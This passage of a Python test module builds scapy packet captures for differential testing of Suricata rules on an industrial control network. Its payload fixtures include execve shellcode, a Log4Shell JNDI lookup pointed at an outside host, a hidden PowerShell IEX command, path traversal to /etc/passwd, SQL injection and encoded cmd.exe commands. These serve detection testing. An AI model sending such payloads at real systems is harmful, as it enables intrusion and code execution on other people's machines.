"""Captures in which each keyword of payload rules matters: packets where it holds, and packets where it nearly holds.

A capture is a function that writes on a Wire; CAPTURES names them all.
"""

from __future__ import annotations

import base64
import random
import struct
from collections.abc import Callable

from scapy.contrib.mpls import MPLS
from scapy.layers.inet import (
    ICMP,
    IP,
    TCP,
    UDP,
    IPOption_EOL,
    IPOption_LSRR,
    IPOption_NOP,
    IPOption_Router_Alert,
    IPOption_RR,
    IPOption_Security,
    IPOption_SSRR,
    IPOption_Stream_Id,
    IPOption_Timestamp,
    fragment,
)
from scapy.layers.inet6 import (
    ICMPv6DestUnreach,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6PacketTooBig,
    ICMPv6TimeExceeded,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    fragment6,
)
from scapy.layers.l2 import GRE, Dot1Q, Ether
from scapy.layers.vxlan import VXLAN
from scapy.packet import Packet, Raw

from tests.differential.suricata.wire import MACS, SECOND, Conversation, Wire, network

HMI, PLC, RTU, LAPTOP, STRANGER = "10.10.1.5", "10.10.2.20", "10.10.2.21", "10.10.3.7", "203.0.113.9"
HMI6, PLC6 = "2001:db8:1::5", "2001:db8:2::20"
MODBUS, DNP3, ENIP, S7, IEC104, BACNET, FINS = 502, 20000, 44818, 102, 2404, 47808, 9600
SPOKEN = 7777  # a port for which Suricata has no parser


def mbap(transaction: int, pdu: bytes, unit: int = 1, protocol: int = 0) -> bytes:
    """Modbus/TCP."""
    return struct.pack(">HHHB", transaction, protocol, len(pdu) + 1, unit) + pdu


def tpkt(data: bytes) -> bytes:
    """RFC 1006 around a COTP packet."""
    return struct.pack(">BBH", 3, 0, len(data) + 4) + data


def s7(function: bytes, kind: int = 1, reference: int = 1, data: bytes = b"") -> bytes:
    """An S7 job in COTP data."""
    head = struct.pack(">BBHHHH", 0x32, kind, 0, reference, len(function), len(data))
    return tpkt(b"\x02\xf0\x80" + head + function + data)


def apdu(asdu: bytes, sent: int = 0, received: int = 0) -> bytes:
    """An I-format APDU of IEC 60870-5-104."""
    return struct.pack("<BBHH", 0x68, len(asdu) + 4, sent << 1, received << 1) + asdu


def cip(command: int, data: bytes = b"", session: int = 0x11223344) -> bytes:
    """An EtherNet/IP encapsulation."""
    return struct.pack("<HHII8sI", command, len(data), session, 0, b"\xc1\xde\xbe\xd1\0\0\0\0", 0) + data


def link(function: int, source: int = 3, destination: int = 4, control: int = 0xC4, objects: bytes = b"") -> bytes:
    """A DNP3 link frame with an application request; CRCs are zero, which rules on bytes do not mind."""
    user = struct.pack("<BBB", 0xC0, 0xC1, function) + objects
    return struct.pack("<2sBBHHH", b"\x05\x64", 5 + len(user), control, destination, source, 0) + user + b"\0\0"


def bvlc(function: int, npdu: bytes) -> bytes:
    """A BACnet/IP packet."""
    return struct.pack(">BBH", 0x81, function, len(npdu) + 4) + npdu


# --- headers ---------------------------------------------------------------------------------------------------------


def lifetimes(wire: Wire) -> None:
    """TTL, TOS and identification, in UDP, TCP and ICMP, and hop limits."""
    for at, ttl in enumerate((0, 1, 2, 4, 5, 6, 9, 10, 31, 32, 63, 64, 65, 127, 128, 129, 200, 254, 255)):
        wire.datagram((HMI, 5000 + at), (PLC, 9999), b"lifetime", ttl=ttl, id=at * 1000, tos=at * 4)
        wire.send(IP(src=LAPTOP, dst=PLC, ttl=ttl, id=31337 + at, tos=0xB8) / ICMP(id=at, seq=at))
        wire.send(IPv6(src=HMI6, dst=PLC6, hlim=ttl, tc=at * 8) / UDP(sport=6000 + at, dport=9999) / Raw(b"lifetime"))
        talk = Conversation(wire, (LAPTOP, 7000 + at), (RTU, SPOKEN))
        talk.open(ttl=ttl, id=ttl)
        talk.say(0, b"lifetime of a segment", ttl=ttl, id=0)
        talk.close()
    for tos in (0, 1, 2, 3, 8, 16, 40, 46 << 2, 48 << 2, 56 << 2, 255):
        wire.datagram((HMI, 8000 + tos), (PLC, 161), b"tos", tos=tos, id=666)
    for number in (0, 1, 3868, 31337, 65535):
        wire.datagram((HMI, 9000), (PLC, 9999), b"id %d" % number, id=number)


def ip_options(wire: Wire) -> None:
    """Each option of RFC 791 and 2113, alone and two together."""
    options = (
        [IPOption_RR(routers=["10.1.1.1", "10.1.1.2"])],
        [IPOption_Timestamp(flg=0, pointer=5, internet_address="0.0.0.0")],
        [IPOption_LSRR(routers=["10.9.9.1"])],
        [IPOption_SSRR(routers=["10.9.9.2"])],
        [IPOption_Security()],
        [IPOption_Stream_Id(security=7)],
        [IPOption_Router_Alert()],
        [IPOption_NOP(), IPOption_NOP(), IPOption_NOP(), IPOption_EOL()],
        [IPOption_EOL()],
        [IPOption_NOP(), IPOption_NOP(), IPOption_NOP(), IPOption_NOP()],
        [IPOption_LSRR(routers=["10.9.9.1"]), IPOption_NOP(), IPOption_RR(routers=["10.1.1.1"])],
    )
    for at, chosen in enumerate(options):
        wire.datagram((STRANGER, 4000 + at), (PLC, 9999), b"options", options=chosen)
        wire.send(IP(src=STRANGER, dst=PLC, options=chosen) / ICMP(id=at))
        wire.send(IP(src=STRANGER, dst=PLC, options=chosen) / TCP(sport=4100 + at, dport=SPOKEN, flags="S"))
    wire.datagram((STRANGER, 4100), (PLC, 9999), b"no options")


def fragments(wire: Wire) -> None:
    """Fragments: whole, overlapping, out of order, missing; the bits D, M and R; IPv4 and IPv6."""
    whole = (
        IP(src=STRANGER, dst=PLC, id=77) / UDP(sport=4000, dport=9999) / Raw(b"A" * 60 + b"EVILFRAGMENT" + b"B" * 80)
    )
    for part in fragment(whole, 32):
        wire.send(part)
    parts = fragment(
        IP(src=STRANGER, dst=PLC, id=78) / UDP(sport=4001, dport=9999) / Raw(b"late part EVILFRAGMENT" * 5), 24
    )
    for part in reversed(parts):
        wire.send(part)
    for part in fragment(IP(src=STRANGER, dst=PLC, id=79) / UDP(sport=4002, dport=9999) / Raw(b"EVILFRAGMENT" * 9), 40)[
        :-1
    ]:
        wire.send(part)
    for part in fragment(IP(src=STRANGER, dst=PLC, id=80) / ICMP(id=9) / Raw(b"ping of fragments " * 9), 64):
        wire.send(part)
    segment = (
        IP(src=STRANGER, dst=PLC, id=81)
        / TCP(sport=4003, dport=SPOKEN, flags="PA", seq=5, ack=9)
        / Raw(b"EVILFRAGMENT" * 4)
    )
    for part in fragment(segment, 24):
        wire.send(part)
    for flags in ("DF", "MF", "evil", "DF+evil", "DF+MF", "MF+evil", 0):
        wire.send(IP(src=LAPTOP, dst=PLC, flags=flags, id=500) / UDP(sport=4100, dport=9999) / Raw(b"bits of a header"))
    for offset in (0, 1, 100, 8000, 8189):
        wire.send(IP(src=LAPTOP, dst=RTU, frag=offset, id=600 + offset, proto=17) / Raw(b"a piece of something"))
    six = (
        IPv6(src=HMI6, dst=PLC6)
        / IPv6ExtHdrFragment(id=5)
        / UDP(sport=4200, dport=9999)
        / Raw(b"C" * 40 + b"EVILFRAGMENT" * 150)
    )
    for part in fragment6(six, 1280):
        wire.send(part)
    talk = Conversation(wire, (STRANGER, 4300), (PLC, SPOKEN)).open()
    for part in fragment(talk.segment(0, "PA", b"segment in pieces EVILFRAGMENT " * 3), 40):
        wire.send(part)
    talk.sequences[0] += 93
    talk.send(1, "A")
    talk.say(0, b"whole segment EVILFRAGMENT")
    talk.close()


def protocols(wire: Wire) -> None:
    """Numbers of protocols above IP, and packets whose ends are one address."""
    for number in (0, 1, 2, 4, 6, 17, 41, 47, 50, 51, 58, 88, 89, 103, 112, 115, 132, 253, 255):
        wire.send(IP(src=HMI, dst=PLC, proto=number) / Raw(b"\0\x01\x02\x03bytes of protocol %03d" % number))
        wire.send(IPv6(src=HMI6, dst=PLC6, nh=number) / Raw(b"\0\x01\x02\x03bytes of protocol %03d" % number))
    for _ in range(3):
        wire.datagram((PLC, 139), (PLC, 139), b"land")
        wire.send(IP(src=PLC, dst=PLC) / TCP(sport=139, dport=139, flags="S"))
        wire.send(IP(src=RTU, dst=RTU) / ICMP())
        wire.send(IPv6(src=PLC6, dst=PLC6) / ICMPv6EchoRequest())
    wire.datagram(("127.0.0.1", 5), ("127.0.0.1", 6), b"loop")


def flags(wire: Wire) -> None:
    """Every set of the six flags and some with ECE and CWR, outside and inside connections."""
    for value in [*range(64), 0x40, 0x80, 0xC0, 0x42, 0xC2, 0x82, 0xD2, 0xFF, 0x52, 0x51, 0x69]:
        wire.send(
            IP(src=STRANGER, dst=PLC)
            / TCP(sport=10000 + value, dport=80, flags=value, seq=value * 1000, window=value * 16)
        )
    talk = Conversation(wire, (HMI, 3000), (PLC, SPOKEN)).open()
    for chosen in ("A", "PA", "UA", "UPA", "FPU", "", "SF", "S", "PAE", "PAC"):
        talk.wire.send(talk.segment(0, chosen, b"flags inside" if "P" in chosen else b""))
    talk.reset()


def numbers(wire: Wire) -> None:
    """Sequence, acknowledgement and window numbers, maximum segment sizes and other options."""
    for at, number in enumerate((0, 1, 674711609, 1958810375, 0x28374839, 2**31, 2**32 - 1)):
        for way in range(3):
            header = TCP(sport=11000 + at * 3 + way, dport=SPOKEN, flags="S" if way < 2 else "A", seq=number if way != 1 else 7,
                         ack=number if way else 0, window=(0, 512, 1024, 2048, 55808, 65535, 3)[at])  # fmt: skip
            wire.send(IP(src=STRANGER, dst=PLC) / header)
    sizes = (0, 1, 48, 256, 535, 536, 537, 1200, 1460, 8960, 65535)
    for at, size in enumerate(sizes):
        options = [("MSS", size), ("SAckOK", b""), ("Timestamp", (at, 0)), ("NOP", None), ("WScale", at % 15)]
        wire.send(IP(src=STRANGER, dst=PLC) / TCP(sport=12000 + at, dport=SPOKEN, flags="S", options=options))
        wire.send(
            IP(src=PLC, dst=STRANGER)
            / TCP(sport=SPOKEN, dport=12000 + at, flags="SA", seq=3, ack=1, options=options[:1])
        )
    wire.send(IPv6(src=HMI6, dst=PLC6) / TCP(sport=12100, dport=SPOKEN, flags="S", options=[("MSS", 500)]))
    wire.send(IP(src=STRANGER, dst=PLC) / TCP(sport=12200, dport=SPOKEN, flags="S"))
    wire.send(IP(src=STRANGER, dst=PLC) / TCP(sport=12201, dport=SPOKEN, flags="S", options=[("NOP", None)] * 8))


def icmp(wire: Wire) -> None:
    """Types and codes of ICMP with identifiers, sequence numbers, quoted packets; requests with answers."""
    quoted = IP(src=PLC, dst=HMI) / UDP(sport=53, dport=4444) / Raw(b"quoted!!")
    for kind in (0, 3, 4, 5, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 30, 40, 255):
        for code in (0, 1, 4, 13):
            wire.send(
                IP(src=HMI, dst=PLC, proto=1)
                / Raw(struct.pack(">BBHHH", kind, code, 0, kind * 100 + code, code) + b"body of icmp")
            )
    for code in range(16):
        wire.send(IP(src=STRANGER, dst=HMI) / ICMP(type=3, code=code, nexthopmtu=code * 100) / quoted)
    for number in (0, 1, 2, 123, 666, 1000, 6667, 30000, 65535):
        wire.send(IP(src=LAPTOP, dst=PLC) / ICMP(type=8, id=number, seq=number) / Raw(b"abcdefghijklmnop"))
        wire.send(IP(src=PLC, dst=LAPTOP) / ICMP(type=0, id=number, seq=number) / Raw(b"abcdefghijklmnop"))
    wire.send(IP(src=LAPTOP, dst=PLC) / ICMP(type=8, id=6666) / Raw(b"shell:cat /etc/passwd;" + b"x" * 900))
    wire.send(IP(src=LAPTOP, dst=PLC) / ICMP(type=8, id=6666) / Raw(b"\0" * 64))
    wire.send(IP(src=LAPTOP, dst=PLC) / ICMP(type=8, id=6666))


def icmp6(wire: Wire) -> None:
    """The same of ICMPv6, with MTUs of Packet Too Big."""
    head = IPv6(src=HMI6, dst=PLC6)
    quoted = IPv6(src=PLC6, dst=HMI6) / UDP(sport=53, dport=4444) / Raw(b"quoted!!")
    for number in (0, 1, 123, 666, 65535):
        wire.send(head / ICMPv6EchoRequest(id=number, seq=number, data=b"abcdefgh"))
        wire.send(IPv6(src=PLC6, dst=HMI6) / ICMPv6EchoReply(id=number, seq=number, data=b"abcdefgh"))
    for mtu in (0, 56, 1279, 1280, 1281, 1400, 1500, 65535, 2**31):
        wire.send(head / ICMPv6PacketTooBig(mtu=mtu) / quoted)
    for code in range(8):
        wire.send(head / ICMPv6DestUnreach(code=code) / quoted)
        wire.send(head / ICMPv6TimeExceeded(code=code % 2) / quoted)
    wire.send(IPv6(src="fe80::1", dst="ff02::1", hlim=255) / ICMPv6ND_RA())
    wire.send(IPv6(src="fe80::1", dst="ff02::1", hlim=255) / ICMPv6ND_NS(tgt="fe80::2"))
    wire.send(IPv6(src="fe80::2", dst="fe80::1", hlim=255) / ICMPv6ND_NA(tgt="fe80::2"))
    wire.send(head / IPv6ExtHdrHopByHop() / ICMPv6EchoRequest(id=7, seq=7, data=b"behind a hop-by-hop header"))
    wire.send(head / IPv6ExtHdrDestOpt() / UDP(sport=1, dport=9999) / Raw(b"behind destination options"))
    wire.send(head / IPv6ExtHdrDestOpt() / TCP(sport=1, dport=SPOKEN, flags="S"))


# --- flows -----------------------------------------------------------------------------------------------------------


def connections(wire: Wire) -> None:
    """Whole connections, reset, refused, half open, without handshake, answer first, silent, one-sided, used again."""
    talk = Conversation(wire, (HMI, 2000), (PLC, SPOKEN)).open()
    talk.say(0, b"GREETING client 1")
    talk.say(1, b"GREETING server 1")
    talk.close()
    talk = Conversation(wire, (HMI, 2000), (PLC, SPOKEN), (50_000, 60_000))
    wire.wait(5)
    talk.open()
    talk.say(0, b"GREETING client again")
    talk.reset(1)
    talk.send(0, "PA", b"GREETING after reset")
    talk = Conversation(wire, (HMI, 2001), (PLC, SPOKEN))
    talk.send(0, "S")
    talk.send(1, "RA")
    talk = Conversation(wire, (HMI, 2002), (PLC, SPOKEN))
    for _ in range(3):
        talk.send(0, "S")
        talk.sequences[0] -= 1
        wire.wait(1)
    midstream = Conversation(wire, (HMI, 2003), (PLC, SPOKEN))
    midstream.say(0, b"GREETING midstream client")
    midstream.say(1, b"GREETING midstream server")
    midstream.say(0, b"GREETING midstream client two")
    midstream.close()
    answer = Conversation(wire, (HMI, 2004), (PLC, SPOKEN))
    answer.say(1, b"GREETING midstream server first")
    answer.say(0, b"GREETING midstream client second")
    answer = Conversation(wire, (HMI, 2005), (PLC, SPOKEN))
    answer.sequences[0] += 1
    answer.send(1, "SA")
    answer.send(0, "A")
    answer.say(0, b"GREETING after SYN/ACK client")
    answer.say(1, b"GREETING after SYN/ACK server")
    answer.close()
    one = Conversation(wire, (HMI, 2006), (PLC, SPOKEN))
    one.send(0, "S")
    for number in range(3):
        one.send(0, "PA", b"GREETING one-sided %d" % number)
    data = Conversation(wire, (HMI, 2007), (PLC, SPOKEN))
    data.send(0, "S", b"GREETING in a SYN")
    data.send(1, "SA")
    data.send(0, "A")
    data.say(0, b"GREETING after data in a SYN")
    data.close()
    quick = Conversation(wire, (HMI, 2008), (PLC, SPOKEN))
    quick.send(0, "S")
    quick.send(1, "SA")
    quick.send(0, "PA", b"GREETING with the last part of the handshake")
    quick.send(1, "A")
    quick.send(0, "FPA", b"GREETING with FIN")
    quick.send(1, "FA")
    quick.send(0, "A")
    quick.send(0, "PA", b"GREETING after FIN")
    six = Conversation(wire, (HMI6, 2009), (PLC6, SPOKEN)).open()
    six.say(0, b"GREETING over IPv6")
    six.say(1, b"GREETING over IPv6 back")
    six.close()


def datagrams(wire: Wire) -> None:
    """UDP flows: answered, never answered, answered late, asked again after minutes."""
    wire.ask((HMI, 3000), (PLC, 9999), b"GREETING udp client", b"GREETING udp server")
    wire.ask((HMI, 3000), (PLC, 9999), b"GREETING udp client 2", b"GREETING udp server 2")
    for number in range(4):
        wire.datagram((HMI, 3001), (PLC, 9999), b"GREETING alone %d" % number)
    wire.wait(40)
    wire.datagram((HMI, 3001), (PLC, 9999), b"GREETING alone after 40 s")
    wire.datagram((PLC, 9999), (HMI, 3001), b"GREETING late answer")
    wire.wait(400)
    wire.datagram((PLC, 9999), (HMI, 3000), b"GREETING server first after 400 s")
    wire.datagram((HMI, 3000), (PLC, 9999), b"GREETING client second after 400 s")
    wire.ask((HMI6, 3002), (PLC6, 9999), b"GREETING udp v6", b"GREETING udp v6 back")
    for number in range(30):
        wire.ask((HMI, 3003), (RTU, 9999), b"poll %02d" % number, b"value %02d" % number + b"." * number * 10)
        wire.wait(0.5)
    for _ in range(3):
        wire.send(IP(src=HMI, dst=PLC) / ICMP(type=8, id=4) / Raw(b"GREETING ping"))
        wire.send(IP(src=PLC, dst=HMI) / ICMP(type=0, id=4) / Raw(b"GREETING ping"))


def long_flows(wire: Wire) -> None:
    """Flows that grow old and large: ages of seconds and minutes, counts of packets and bytes on both sides."""
    talks = [Conversation(wire, (HMI, 4000 + at), (PLC, SPOKEN)).open() for at in range(3)]
    for number in range(40):
        talks[0].say(0, b"TICK %d" % number)
        if number % 2:
            talks[1].say(1, b"TICK " + b"#" * 700)
        if number % 10 == 0:
            talks[2].say(0, b"TICK slow")
            talks[2].say(1, b"TICK slow answer" * 20)
        wire.datagram((LAPTOP, 4100), (PLC, 9999), b"TICK udp %d" % number)
        wire.wait(1.6)
    for talk in talks:
        talk.close()


# --- payloads --------------------------------------------------------------------------------------------------------

TEXTS = (
    b"GET /cgi-bin/login.cgi?user=admin&pass=admin HTTP/1.1\r\nHost: plc.local\r\nUser-Agent: Nikto/2.1.6\r\n\r\n",
    b"GET /index.html HTTP/1.1\r\nHost: hmi.local\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    b"GET /..%2f..%2f../etc/passwd HTTP/1.0\r\n\r\n",
    b"GET /..%2F..%2f../ETC/PASSWD HTTP/1.0\r\n\r\n",
    b"POST /upload.php HTTP/1.1\r\nContent-Length: 44\r\n\r\ncmd=${jndi:ldap://203.0.113.9:1389/a}&x=1",
    b"USER anonymous\r\nPASS guest@example.com\r\nCWD /firmware\r\nRETR ladder.bin\r\n",
    b"USER root\r\nPASS toor\r\n",
    b"\x90" * 40 + b"\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80",
    b"\x90" * 15 + b"\xcc\xcc",
    b"A" * 300 + b"\xef\xbe\xad\xde" + b"B" * 30,
    b"powershell -nop -w hidden -EncodedCommand "
    + base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le")),
    b"Authorization: Basic " + base64.b64encode(b"admin:admin") + b"\r\n",
    b"Authorization: Basic " + base64.b64encode(b"operator:s3cret") + b"\r\n",
    b"token=" + base64.b64encode(b"cmd.exe /c whoami & net user") + b";end",
    b"\xffSMB\x72\0\0\0\0\x18\x53\xc8" + b"\0" * 20 + b"\0\x31\0\x02LANMAN1.0\0\x02NT LM 0.12\0",
    b"\0\0\0\x54\xfeSMB\x40\0\0\0\0\0\0\0\x05\0" + b"\0" * 40,
    b"SSH-2.0-libssh_0.8.1\r\n",
    b"SSH-2.0-OpenSSH_9.2\r\n",
    b"SELECT * FROM users WHERE name='' OR 1=1 --",
    b"select password from users union select 1,2,3",
    b"len=0012;data=abcdefghijkl;crc=ff",
    b"len=0099;data=abcdefghijkl;crc=ff",
    b"size 48 bytes\nsize 0x30 bytes\nsize 060 bytes\n",
    b"key1=val1&key2=val2&key3=val3&key1=val1",
    b"abc" * 30 + b"abd" + b"abc" * 3,
    b"foobarfoobazfoobar",
    b"one two three four five six seven eight nine ten",
    b"\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f" * 4,
    b"\xff" * 17,
    b"X",
    b"\0",
    b'beacon|00|;:"\\quoted\\"',
    b'Stratum {"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}\n',
    b"CONNECT abcdefghijklmnop.onion:443 HTTP/1.1\r\n\r\n",
    b"MZ" + b"\x90\0\x03\0" + b"\0" * 54 + struct.pack("<I", 0x80) + b"\0" * 64 + b"PE\0\0\x4c\x01",
    b"MZ" + b"\x90\0\x03\0" + b"\0" * 54 + struct.pack("<I", 0x70) + b"\0" * 64 + b"PE\0\0\x4c\x01",
    b"\x7fELF\x01\x01\x01" + b"\0" * 9 + b"\x02\0\x28\0",
)


def industrial() -> list[tuple[int, bytes]]:
    """(port, bytes) of requests of control systems, well formed and not."""
    found = [(MODBUS, mbap(at, pdu)) for at, pdu in enumerate((
        b"\x01\0\x10\0\x08", b"\x03\0\0\0\x7d", b"\x03\0\0\0\x7e", b"\x05\0\x01\xff\0", b"\x06\0\x20\x12\x34", b"\x08\0\x01\0\0",
        b"\x08\0\x04\0\0", b"\x0f\0\0\0\x0a\x02\xff\x03", b"\x10\0\x01\0\x02\x04\0\x0a\x01\x02", b"\x11", b"\x2b\x0e\x01\0",
        b"\x5a\0\x02", b"\x83\x02", b"\x86\x06", b"\x5a\x01\x34\0\x01" + b"\0" * 30))]  # fmt: skip
    found.append((MODBUS, mbap(77, b"\x03\0\0\0\x01", protocol=1)))
    found.append((MODBUS, mbap(78, b"\x10" + b"\0" * 280)))
    found += [(DNP3, link(function)) for function in (0, 1, 2, 3, 4, 5, 13, 14, 18, 21, 23, 129, 130)]
    found += [(DNP3, link(1, 3, 0xFFFF)), (DNP3, link(5, objects=b"\x0c\x01\x28\x01\0\x05\0\x03\x01"))]
    found += [(ENIP, cip(command, data)) for command, data in (
        (0x63, b""), (0x65, b"\x01\0\0\0"), (0x64, b""), (0x04, b""), (0x66, b""),
        (0x6F, b"\0\0\0\0\0\0\x02\0\0\0\0\0\xb2\0\x06\0\x05\x02\x20\x01\x24\x01"),
        (0x6F, b"\0\0\0\0\0\0\x02\0\0\0\0\0\xb2\0\x06\0\x07\x02\x20\x64\x24\x01"))]  # fmt: skip
    found += [(S7, s7(function)) for function in (b"\x04\x01\x12\x0a\x10\x02\0\x01\0\x01\x84\0\0\0", b"\xf0\0\0\x01\0\x01\x01\xe0", b"\x28" + b"\0" * 6
              + b"\xfd\0\0\x09P_PROGRAM", b"\x29" + b"\0" * 5 + b"\x09P_PROGRAM", b"\x1d\0\0\0\0\0\0\0\0\x09_0800001P")]  # fmt: skip
    found += [(S7, tpkt(b"\x11\xe0\0\0\0\x01\0\xc1\x02\x01\0\xc2\x02\x01\x02\xc0\x01\x0a"))]
    found += [(IEC104, apdu(bytes((kind, 1, cause, 0, 1, 0, 1, 0, 0, value)))) for kind, cause, value in (
        (1, 3, 1), (45, 6, 0x81), (45, 6, 0x01), (46, 6, 2), (100, 6, 20), (103, 6, 0), (105, 6, 1), (13, 3, 9))]  # fmt: skip
    found += [(IEC104, b"\x68\x04\x07\0\0\0"), (IEC104, b"\x68\x04\x43\0\0\0"), (IEC104, b"\x68\x04\x13\0\0\0")]
    found += [(BACNET, bvlc(function, npdu)) for function, npdu in (
        (0x0A, b"\x01\x04\0\x05\x01\x0c\x0c\x02\0\0\x01\x19\x55"), (0x0A, b"\x01\x04\0\x05\x02\x0f\x0c\0\x80\0\x01\x19\x55\x3e\x44\x42\0\0\0\x3f"),
        (0x0B, b"\x01\x20\xff\xff\0\xff\x10\x08"), (0x05, b"\0\x3c"), (0x06, b""), (0x02, b""), (0x0A, b"\x01\x04\0\x05\x03\x14\x09\0"))]  # fmt: skip
    found += [
        (FINS, b"\x80\0\x02\0\x01\0\0\x05\0\0" + code + b"\0\0")
        for code in (b"\x05\x01", b"\x01\x01", b"\x01\x02", b"\x04\x02")
    ]
    return found


def udp_payloads(wire: Wire) -> None:
    """Every text and every industrial request in a datagram of its own flow."""
    for at, data in enumerate(TEXTS):
        wire.datagram((LAPTOP, 20000 + at), (PLC, 9999), data)
    for at, (port, data) in enumerate(industrial()):
        wire.datagram((HMI, 21000 + at), (PLC, port), data)
    for at, size in enumerate((0, 1, 2, 3, 4, 7, 8, 9, 15, 16, 17, 99, 100, 101, 299, 300, 301, 512, 1000, 1400)):
        wire.datagram(
            (HMI, 22000 + at), (PLC, 9998), b"".join(b"%02d" % (number % 100) for number in range(size))[:size]
        )


def tcp_payloads(wire: Wire) -> None:
    """Every text and every industrial request in a connection of its own, on ports without a parser and on its own."""
    for at, data in enumerate(TEXTS):
        for side in (0, 1):
            talk = Conversation(wire, (LAPTOP, 23000 + 2 * at + side), (PLC, SPOKEN)).open()
            talk.say(side, data)
            talk.close()
    for at, (port, data) in enumerate(industrial()):
        for own in (False, True):
            talk = Conversation(wire, (HMI, 24000 + 2 * at + own), (PLC, port if own else SPOKEN)).open()
            talk.say(0, data)
            talk.close()


def server_texts(wire: Wire) -> None:
    """Answers: banners and error texts that servers send."""
    answers = (b"220 vsFTPd 2.3.4\r\n", b"530 Login incorrect.\r\n", b"HTTP/1.1 200 OK\r\nServer: GoAhead-Webs\r\n\r\n<html>",
               b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"PLC\"\r\n\r\n", b"root:x:0:0:root:/root:/bin/bash\n",
               b"uid=0(root) gid=0(root) groups=0(root)\n", b"Microsoft Windows [Version 10.0.19041]\r\nC:\\>")  # fmt: skip
    for at, answer in enumerate(answers):
        talk = Conversation(wire, (STRANGER, 25000 + at), (PLC, SPOKEN)).open()
        talk.say(0, b"hello")
        talk.say(1, answer)
        talk.say(0, b"bye")
        talk.close()
    for at in range(6):
        talk = Conversation(wire, (STRANGER, 25100 + at), (PLC, 21)).open()
        talk.say(1, b"220 vsFTPd 2.3.4\r\n")
        talk.say(0, b"USER admin\r\n")
        talk.say(1, b"331 Please specify the password.\r\n")
        talk.say(0, b"PASS admin%d\r\n" % at)
        talk.say(1, b"530 Login incorrect.\r\n")
        talk.close()
        wire.wait(1)


# --- streams ---------------------------------------------------------------------------------------------------------


def split_streams(wire: Wire) -> None:
    """Texts in small segments: of one byte, of a few, at every place of a pattern."""
    for size in (1, 2, 3, 5, 8, 13):
        for at, data in enumerate((TEXTS[2], TEXTS[4], TEXTS[7], mbap(9, b"\x08\0\x04\0\0") * 3, TEXTS[9])):
            talk = Conversation(wire, (LAPTOP, 26000 + size * 10 + at), (PLC, SPOKEN)).open()
            talk.say(0, data, size)
            talk.close()
    data = b"some bytes first EVILSTREAM some bytes after"
    for cut in range(16, 29):
        talk = Conversation(wire, (LAPTOP, 26500 + cut), (PLC, SPOKEN)).open()
        talk.say(0, data[:cut])
        talk.say(0, data[cut:])
        talk.close()


def disordered_streams(wire: Wire) -> None:
    """Segments out of order, sent again, overlapping, with gaps, with data outside the window."""
    pieces = [b"first EVIL", b"STREAM second ", b"third EVILST", b"REAM fourth"]
    places = [sum(map(len, pieces[:at])) for at in range(4)]
    for number, order in enumerate(((1, 0, 2, 3), (3, 2, 1, 0), (0, 2, 1, 3), (0, 0, 1, 1, 2, 3), (0, 3, 1, 2))):
        talk = Conversation(wire, (LAPTOP, 27000 + number), (PLC, SPOKEN)).open()
        for piece in order:
            wire.send(talk.segment(0, "PA", pieces[piece], places[piece]))
        talk.sequences[0] += sum(map(len, pieces))
        talk.send(1, "A")
        talk.close()
    talk = Conversation(wire, (LAPTOP, 27100), (PLC, SPOKEN)).open()
    talk.say(0, b"before a gap EVIL")
    talk.sequences[0] += 100
    talk.send(0, "PA", b"STREAM after a gap")
    talk.send(1, "A")
    talk.say(0, b"and EVILSTREAM whole")
    talk.close()
    talk = Conversation(wire, (LAPTOP, 27101), (PLC, SPOKEN)).open()
    wire.send(talk.segment(0, "PA", b"XXXXSTREAM newer", 4))
    wire.send(talk.segment(0, "PA", b"EVILstream older", 0))
    talk.sequences[0] += 20
    talk.send(1, "A")
    talk.close()
    talk = Conversation(wire, (LAPTOP, 27102), (PLC, SPOKEN)).open()
    talk.say(0, b"keep alive ")
    for _ in range(3):
        wire.send(talk.segment(0, "A", b"\0", -1))
        talk.send(1, "A")
        wire.wait(2)
    talk.say(0, b"EVILSTREAM after keep-alives")
    wire.send(talk.segment(0, "PA", b"far away EVILSTREAM", 3_000_000))
    talk.say(0, b" the end")
    talk.close()
    talk = Conversation(wire, (LAPTOP, 27103), (PLC, SPOKEN), (2**32 - 30, 2**32 - 5)).open()
    talk.say(0, b"over the end of sequence numbers: EVILSTREAM", 7)
    talk.say(1, b"and back EVILSTREAM", 4)
    talk.close()
    talk = Conversation(wire, (LAPTOP, 27104), (PLC, SPOKEN)).open()
    talk.send(0, "UPA", b"urgent EVILSTREAM", urgent=3)
    talk.send(1, "A")
    talk.send(0, "UPA", b"EVIL!STREAM", urgent=5)
    talk.send(1, "A")
    talk.close()


def long_streams(wire: Wire) -> None:
    """Streams of many kilobytes with rare marks, in both directions, at known places."""
    chosen = random.Random(11)
    for number in range(3):
        talk = Conversation(wire, (LAPTOP, 28000 + number), (PLC, SPOKEN)).open()
        data = bytearray(chosen.choices(b"abcdefghijklmnopqrstuvwxyz \n", k=12_000))
        for place in (0, 1455, 2558, 5000, 5119, 9990, 11_900):
            data[place : place + 10] = b"EVILSTREAM"
        talk.say(0, bytes(data), (1460, 536, 1000)[number])
        talk.say(1, bytes(data[:6000]), 1460)
        talk.close()
    talk = Conversation(wire, (LAPTOP, 28100), (PLC, SPOKEN)).open()
    for number in range(60):
        talk.say(0, b"%04d:" % number + b"." * (number % 7) + (b"ALARM" if number % 9 == 0 else b"quiet"))
        talk.say(1, b"ok %d" % number)
    talk.close()


# --- what rules remember ---------------------------------------------------------------------------------------------


def chains(wire: Wire) -> None:
    """Logins, then commands: in order, in the wrong order, without the first, in other flows."""
    stories = ((b"LOGIN admin", b"COMMAND stop", b"LOGOUT", b"COMMAND stop"), (b"COMMAND stop", b"LOGIN admin", b"COMMAND stop"),
               (b"LOGIN guest", b"COMMAND stop"), (b"LOGIN admin", b"LOGOUT", b"COMMAND stop"), (b"LOGIN admin",), (b"COMMAND stop",),
